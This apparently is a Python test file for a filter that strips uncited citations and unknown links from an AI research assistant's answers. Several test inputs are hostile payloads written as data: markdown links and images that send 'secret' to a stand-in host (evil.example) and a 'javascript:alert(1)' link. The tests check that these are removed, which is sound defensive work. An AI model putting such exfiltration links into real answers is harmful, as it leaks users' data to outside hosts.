"""What an answer refers to stood in its prompt."""

from __future__ import annotations

import re

import pytest
from genai_feature_research import reactions
from genai_feature_research.prompts import NOTHING_LEFT
from genai_feature_research.search import cited
from hypothesis import given, strategies as st

from genai_host_testing.internal.research_engine import Scene, result, scene

__all__ = ["scene"]

PROMPT = "[1] Rivers — https://rivers.example/a\n[2] Lakes — https://lakes.example/b?c=d"


@pytest.mark.parametrize(
    ("answer", "text", "numbers"),
    [
        ("To the sea [1].", "To the sea [1].", (1,)),
        ("To the sea[2] and back [1].", "To the sea[2] and back [1].", (1, 2)),
        ("To the sea [3].", "To the sea.", ()),
        ("To the sea [1, 3].", "To the sea [1].", (1,)),
        ("To the sea [0][2].", "To the sea[2].", (2,)),
        ("`a[3]` and ```\nb[7]\n```", "`a[3]` and ```\nb[7]\n```", ()),
        ("See https://rivers.example/a.", "See https://rivers.example/a.", ()),
        ("See https://rivers.example/other!", "See !", ()),
        (
            "See [a page](https://lakes.example/b?c=d).",
            "See [a page](https://lakes.example/b?c=d).",
            (),
        ),
        ("See [a page](https://evil.example/?q=secret).", "See a page.", ()),
        ("![x](https://evil.example/?q=secret)", "x", ()),
        ('[x](https://evil.example "a title") y', "x y", ()),
        ("[x](javascript:alert(1))", "x)", ()),
        ("<https://evil.example>", "", ()),
        ("`https://evil.example`", "``", ()),
        ("HTTPS://EVIL.EXAMPLE", "", ()),
        ("[2024] was a year [see 1]", " was a year [see 1]", ()),
    ],
)
def test_what_is_left_of_an_answer(answer: str, text: str, numbers: tuple[int, ...]) -> None:
    found = cited(answer, PROMPT, 2)
    assert (found.text, found.numbers) == (text, numbers)
    assert bool(found.left_out) == (answer != text)


@given(st.text(alphabet="[]()12345, .!`<>ahtps:/\n", max_size=200))
def test_no_number_and_no_address_is_left_that_was_not_there(answer: str) -> None:
    text = cited(answer, "nothing", 2).text
    plain = re.sub(r"```.*?(?:```|\Z)|`[^`\n]+`", "", text, flags=re.DOTALL)
    assert all(int(each) in (1, 2) for each in re.findall(r"\[(\d{1,4})\](?!\(|\w)", plain))


def test_where_an_answer_refers_to_nothing_all_findings_are_its_sources(scene: Scene) -> None:
    conversation = scene.host.open("research", "fake", models=scene.roles, settings=scene.settings)
    answer = conversation.say("Where do rivers run to?")
    assert [each["number"] for each in answer.data["sources"]] == [1]


def test_an_answer_that_has_nothing_left_says_so(scene: Scene) -> None:
    scene.says = " [7] "
    assert scene.ask()["answer"] == NOTHING_LEFT


def test_an_answer_refers_to_what_the_model_was_shown(scene: Scene) -> None:
    found = result("Rivers run to the sea.", "https://rivers.example", "Rivers")
    scene.engine.results = lambda query: [found]
    scene.says = "To the sea [1], and up [4]; see https://evil.example/?q=secret"
    conversation = scene.host.open("research", "fake", models=scene.roles, settings=scene.settings)
    answer = conversation.say("Where do rivers run to?")
    assert answer.summary == "To the sea [1], and up; see"
    source = {"number": 1, "title": "Rivers", "link": "https://rivers.example"}
    assert answer.data["sources"] == [source]
    assert [reaction["type"] for reaction in answer.reactions] == ["sources", "warnings"]
    shown = [*reactions.sources(answer.reactions[0], 80)]
    assert shown == ["[1] Rivers", "    https://rivers.example"]
    warned = [*reactions.warnings(answer.reactions[1], 30)]
    assert " ".join(warned).startswith("! removed from the answer")
    assert len(warned) > 1


def test_many_links_that_do_not_end_take_no_time() -> None:
    text = "[x](" * 2000
    assert cited(text, "", 0).text == text
